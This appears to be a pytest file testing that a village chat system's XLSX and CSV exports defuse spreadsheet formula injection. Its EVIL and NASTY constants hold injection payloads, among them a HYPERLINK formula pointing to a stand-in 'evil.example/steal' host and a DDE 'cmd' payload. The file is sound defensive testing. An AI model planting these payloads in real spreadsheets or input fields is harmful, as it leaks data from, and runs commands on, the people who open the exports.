"""Exports are data, never formulas (issue 12, OWASP's rule): read back, no cell is a formula.

A villager's message `=HYPERLINK("http://evil.example/steal","帮忙理发")` once became a live link
in the admin's XLSX; CSV cells starting with = + - @ were written as they came.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from handlers.datamap.files import BOM, build_file, neutralise, sane_period

EVIL = '=HYPERLINK("http://evil.example/steal","帮忙理发")'
NASTY = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


async def _rows(rows: list[list[object]]):
    for row in rows:
        yield row


@pytest.mark.parametrize("value", NASTY)
def test_a_text_a_spreadsheet_would_run_gets_a_leading_quote(value: str) -> None:
    assert neutralise(value) == "'" + value


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    assert [neutralise(v) for v in (-1.5, 3, None, "王大娘", "1-2号楼", "a=b")] == \
        [-1.5, 3, None, "王大娘", "1-2号楼", "a=b"]


async def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numbers() -> None:
    rows = [[v, -1.5, 2] for v in NASTY]
    data, count, _ = await build_file(_rows(rows), ["text", "hours", "n"], "xlsx", title="t")
    sheet = load_workbook(io.BytesIO(data)).active  # not read-only: data_type tells a formula
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert count == len(NASTY) and cells
    assert all(c.data_type != "f" for c in cells)
    texts = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert texts == ["'" + v.replace("\r", "\n") for v in NASTY]  # XML reads a CR back as a line feed
    assert [(row[1].value, row[2].value) for row in sheet.iter_rows(min_row=2)][0] == (-1.5, 2)


async def test_no_csv_cell_starts_a_formula() -> None:
    data, _, _ = await build_file(_rows([[v, -1.5] for v in NASTY]), ["text", "hours"], "csv", title="t")
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    body = list(csv.reader(io.StringIO(text[1:], newline="")))[1:]
    assert [r[0] for r in body] == ["'" + v for v in NASTY] and {r[1] for r in body} == {"-1.5"}


async def test_a_villagers_formula_reaches_the_admins_export_as_text(chat) -> None:
    await chat.send("王大娘", EVIL)
    await chat.send("王大娘", "确认")
    for fmt in ("xlsx", "csv"):
        out = await chat.send("蓬莱站长", f"导出 任务 {fmt}")
        [doc] = [a for m in out for a in m.attachments]
        if fmt == "xlsx":
            sheet = load_workbook(io.BytesIO(doc.data)).active
            cells = [c for row in sheet.iter_rows() for c in row]
            assert all(c.data_type != "f" for c in cells)
            assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") for c in cells)
        else:
            body = list(csv.reader(io.StringIO(doc.data.decode("utf-8")[1:], newline="")))
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in body for cell in row)
            assert any(cell.startswith("'=HYPERLINK") for row in body for cell in row)


def test_export_periods_are_bounded() -> None:
    assert sane_period(date(2026, 11, 1), date(2026, 11, 30))
    assert not sane_period(date(1900, 1, 1), date(9999, 12, 31))
    assert not sane_period(date(2026, 12, 1), date(2026, 11, 1))


async def test_absurd_export_dates_get_a_polite_answer(chat) -> None:
    out = await chat.send("蓬莱站长", "导出 工时 1900-01-01 9999-12-31")
    assert "2000-01-01 到 2099-12-31" in chat.last_to("蓬莱站长", out) and not [a for m in out for a in m.attachments]
